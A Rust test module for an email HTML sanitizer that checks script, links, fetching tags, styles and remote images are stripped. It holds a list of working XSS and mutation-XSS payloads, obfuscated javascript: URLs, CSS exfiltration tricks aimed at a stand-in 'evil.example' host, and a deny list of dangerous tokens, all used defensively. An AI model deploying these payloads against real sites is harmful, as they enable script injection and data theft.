//! What must not be left of HTML, by class; what may.

use super::*;

fn shown(html: &str) -> String {
    let pictures = HashMap::from([("logo@x".to_owned(), "/files/1?seal=a".to_owned())]);
    clean(html, pictures, false, Arc::default())
}

/// Nothing of this may be left of any of them.
const NEVER: &[&str] = &[
    "onerror",
    "onload",
    "<script",
    "<svg",
    "<math",
    "<style",
    "javascript",
    "vbscript",
    "data:",
    "<form",
    "formaction",
    "<base",
    "<meta",
    "<link",
    "<iframe",
    "srcdoc",
    "<object",
    "<embed",
    "position",
    "@import",
    "url(",
    "evil",
    "<template",
    "<noscript",
    "expression",
    "<input",
    "<button",
];

#[rstest::rstest]
#[case("<img src=x onerror=alert(1)>")]
#[case("<svg onload=alert(1)>")]
#[case("<svg><script>alert(1)</script></svg>")]
#[case("<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
#[case("<template><img src=x onerror=alert(1)></template>")]
#[case("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
#[case(
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\"></a>"
)]
fn class_1_no_script(#[case] html: &str) {
    // The attribute's text may stay as text where no tag comes of it.
    let shown = shown(html);
    for part in ["<script", "<svg", "<math", "<style", "<template", "<noscript", "<form"] {
        assert!(!shown.contains(part), "{shown}");
    }
    assert!(!shown.contains("<img src") && !tags(&shown).any(|tag| tag.contains(" on")), "{shown}");
}

/// What stands between `<` and `>`, without what stands between quotes.
fn tags(html: &str) -> impl Iterator<Item = String> {
    html.split('<').skip(1).map(|tag| {
        let tag = tag.split('>').next().unwrap_or_default();
        tag.split('"').step_by(2).collect()
    })
}

#[rstest::rstest]
#[case("javascript:evil()")]
#[case("JaVaScRiPt:evil()")]
#[case("&#106;avascript:evil()")]
#[case("java\tscript:evil()")]
#[case(" javascript:evil()")]
#[case("data:text/html,<script>evil()</script>")]
#[case("vbscript:evil()")]
#[case("//evil.example")]
#[case("/api/v1/evil")]
#[case("file:///evil")]
fn class_2_no_link_but_to_elsewhere(#[case] href: &str) {
    let shown = shown(&format!("<a href=\"{href}\">x</a>"));
    assert!(!shown.contains("href"), "{shown}");
}

#[rstest::rstest]
#[case("<form action=https://evil.example><input name=a><button formaction=https://evil.example>go</button></form>")]
#[case("<base href=https://evil.example>")]
#[case("<meta http-equiv=refresh content='0;url=https://evil.example'>")]
#[case("<link rel=stylesheet href=https://evil.example>")]
#[case("<iframe srcdoc='<script>evil()</script>'></iframe>")]
#[case("<object data=https://evil.example></object>")]
#[case("<embed src=https://evil.example>")]
#[case("<body background=https://evil.example>")]
#[case("<img srcset='https://evil.example 2x'>")]
#[case("<video poster=https://evil.example></video>")]
fn class_3_nothing_that_sends_or_fetches(#[case] html: &str) {
    let shown = shown(html);
    for part in NEVER {
        assert!(!shown.contains(part), "{part} in {shown}");
    }
}

#[rstest::rstest]
#[case("<style>@import 'https://evil.example'; input[value^=a]{background:url(https://evil.example)}</style>")]
#[case("<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>")]
#[case("<p style='background:url(https://evil.example)'>x</p>")]
#[case("<p style='color:u\\72l(https://evil.example)'>x</p>")]
#[case("<p style='background-color:ur/**/l(https://evil.example)'>x</p>")]
#[case("<p style='width:expression(evil())'>x</p>")]
#[case("<p style='font-family:image-set(\"https://evil.example\" 1x)'>x</p>")]
fn class_4_no_style_that_fetches_or_covers(#[case] html: &str) {
    let shown = shown(html);
    for part in NEVER {
        assert!(!shown.contains(part), "{part} in {shown}");
    }
}

#[test]
fn class_5_remote_pictures_only_when_asked_for() {
    let mail = "<p style='color:red;text-align:center'>Hi <img src='http://track.example/a.png' alt=A><img src=cid:logo%40x>\
        <img src=/files/2><img src=https://track.example/b.png></p>";
    let hidden = page(mail, HashMap::from([("logo@x".to_owned(), "/files/1?seal=a".to_owned())]), false);
    assert!(hidden.contains("data-remote=\"2\"") && !hidden.contains("track.example"), "{hidden}");
    assert!(hidden.contains("src=\"/files/1?seal=a\"") && !hidden.contains("/files/2"), "{hidden}");
    assert!(hidden.contains("style=\"color:red;text-align:center\""), "{hidden}");
    let asked = page(mail, HashMap::new(), true);
    assert!(asked.contains("src=\"https://track.example/a.png\"") && asked.contains("data-remote=\"0\""), "{asked}");
    assert!(!asked.contains("http://"), "{asked}");
}

#[test]
fn a_link_opens_elsewhere_and_learns_nothing() {
    let shown = shown("<a href='https://x.example/' target=_top onclick=a()>x</a>");
    assert_eq!(shown, "<a href=\"https://x.example/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>");
}

#[test]
fn a_deep_mail_is_shown_soon() {
    let shown = shown(&"<div>".repeat(20_000));
    assert!(!shown.is_empty());
}
